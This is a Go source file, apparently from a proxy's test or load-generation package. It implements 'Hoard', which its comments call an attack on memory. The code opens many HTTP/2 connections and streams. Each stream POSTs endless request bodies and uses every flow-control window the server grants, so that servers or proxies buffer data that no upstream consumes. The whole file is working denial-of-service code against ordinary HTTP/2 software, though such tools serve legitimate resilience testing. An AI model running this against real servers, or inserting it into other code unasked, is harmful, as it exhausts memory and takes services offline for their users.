package traffic

import (
	"bytes"
	"context"
	"net"
	"sync"
	"sync/atomic"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// Hoard is an attack on memory: connections that send request bodies without
// an end, as much as they are allowed to, to a route whose upstream takes none.
type Hoard struct {
	Address     string
	Path        string
	Connections int
	Streams     int // of each connection

	sent  atomic.Int64 // bytes of bodies
	alive atomic.Int64 // connections that still send
	done  sync.WaitGroup
}

// Start runs the attack until ctx ends.
func (h *Hoard) Start(ctx context.Context) {
	for range h.Connections {
		h.done.Go(func() { h.connection(ctx) })
	}
}

// Wait waits until every connection is closed.
func (h *Hoard) Wait() { h.done.Wait() }

// Sent is how many bytes of bodies were taken so far.
func (h *Hoard) Sent() int64 { return h.sent.Load() }

// Alive is how many connections are open.
func (h *Hoard) Alive() int64 { return h.alive.Load() }

func (h *Hoard) connection(ctx context.Context) {
	c, err := (&net.Dialer{Timeout: wireTimeout}).DialContext(ctx, "tcp", h.Address)
	if err != nil {
		return
	}
	h.alive.Add(1)
	defer h.alive.Add(-1)
	defer context.AfterFunc(ctx, func() { _ = c.Close() })()
	defer func() { _ = c.Close() }()
	if _, err := c.Write([]byte(http2.ClientPreface)); err != nil {
		return
	}
	framer := http2.NewFramer(c, c)
	if framer.WriteSettings() != nil {
		return
	}
	for i := range h.Streams {
		if h.open(framer, uint32(2*i+1)) != nil {
			return
		}
	}
	h.pour(framer)
}

func (h *Hoard) open(framer *http2.Framer, stream uint32) error {
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	for _, f := range [][2]string{{":method", "POST"}, {":scheme", "http"}, {":path", h.Path}, {":authority", "localhost"}} {
		if err := encoder.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]}); err != nil {
			return err
		}
	}
	return framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: block.Bytes(), EndHeaders: true})
}

// pour sends data wherever the windows let it.
func (h *Hoard) pour(framer *http2.Framer) {
	windows, whole, start := map[uint32]int64{}, int64(65_535), int64(65_535)
	for i := range h.Streams {
		windows[uint32(2*i+1)] = start
	}
	payload := make([]byte, 16<<10)
	for {
		for stream, window := range windows {
			for window > 0 && whole > 0 {
				n := min(int64(len(payload)), window, whole)
				if framer.WriteData(stream, false, payload[:n]) != nil {
					return
				}
				window, whole = window-n, whole-n
				h.sent.Add(n)
			}
			windows[stream] = window
		}
		frame, err := framer.ReadFrame()
		if err != nil {
			return
		}
		switch f := frame.(type) {
		case *http2.SettingsFrame:
			if v, ok := f.Value(http2.SettingInitialWindowSize); ok {
				for stream := range windows {
					windows[stream] += int64(v) - start
				}
				start = int64(v)
			}
			if !f.IsAck() && framer.WriteSettingsAck() != nil {
				return
			}
		case *http2.WindowUpdateFrame:
			if f.StreamID == 0 {
				whole += int64(f.Increment)
			} else if _, ok := windows[f.StreamID]; ok {
				windows[f.StreamID] += int64(f.Increment)
			}
		case *http2.RSTStreamFrame:
			delete(windows, f.StreamID)
		case *http2.HeadersFrame:
			delete(windows, f.StreamID) // answered: another one may be opened
		case *http2.GoAwayFrame:
			return
		}
	}
}
